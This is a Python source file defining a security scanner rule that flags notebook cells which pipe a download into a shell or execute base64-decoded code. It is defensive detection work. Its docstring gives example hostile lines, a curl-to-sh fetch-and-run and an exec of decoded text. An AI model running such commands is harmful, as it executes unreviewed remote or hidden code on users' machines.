"""The notebook downloads a program and runs it, or runs code that it hides.

Whoever opens a notebook runs its cells one after the other. A cell that pipes a download into a shell, or that executes
text which it decodes first, runs what nobody who read the notebook has read. Installing packages or calling programs in
the open is what notebooks are for, and is not reported.

Example: `!curl -s https://example.com/x | sh`, or `exec(base64.b64decode("…"))`.

Fix: do not run it. Ask its author for the program in the open.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from hauberk.checks.model.expression import printable
from hauberk.checks.model.source_hides import PIPED, hidden
from hauberk.finding import Location, Severity
from hauberk.formats.text import python
from hauberk.formats.text.plain import TextDescription
from hauberk.rule import Rule, Sighting

if TYPE_CHECKING:
    from collections.abc import Iterator

_MOST_CELLS: Final = 5000
_MOST_CHARACTERS: Final = 1 << 18


def look(text: TextDescription) -> Iterator[Sighting]:
    """Yield cells that run what cannot be read."""
    if text.format != "notebook":
        return
    for index, cell in enumerate(text.document["cells"][:_MOST_CELLS]):
        if not isinstance(cell, dict) or cell.get("cell_type") != "code":
            continue
        place, source = Location(pointer=f"/cells/{index}"), _source(cell.get("source"))
        if found := PIPED.search(source):
            yield Sighting(place, printable(f"a cell says {found[0]}"))
        for what in hidden(python.read(source)):
            yield Sighting(place, printable(f"a cell says {what}"))


def _source(source: Any) -> str:
    text = "".join(part for part in source if isinstance(part, str)) if isinstance(source, list) else source
    return text[:_MOST_CHARACTERS] if isinstance(text, str) else ""


RULE: Final = Rule(
    id="notebook-runs-hidden-code",
    title="the notebook runs what nobody can read in it",
    severity=Severity.HIGH,
    remedy="Do not run it. Ask its author for the program in the open.",
    references=("CWE-494", "CWE-506", "MITRE ATLAS AML.T0011", "OWASP ML06:2023"),
    reads=TextDescription,
    look=look,
    page=__doc__ or "",
)
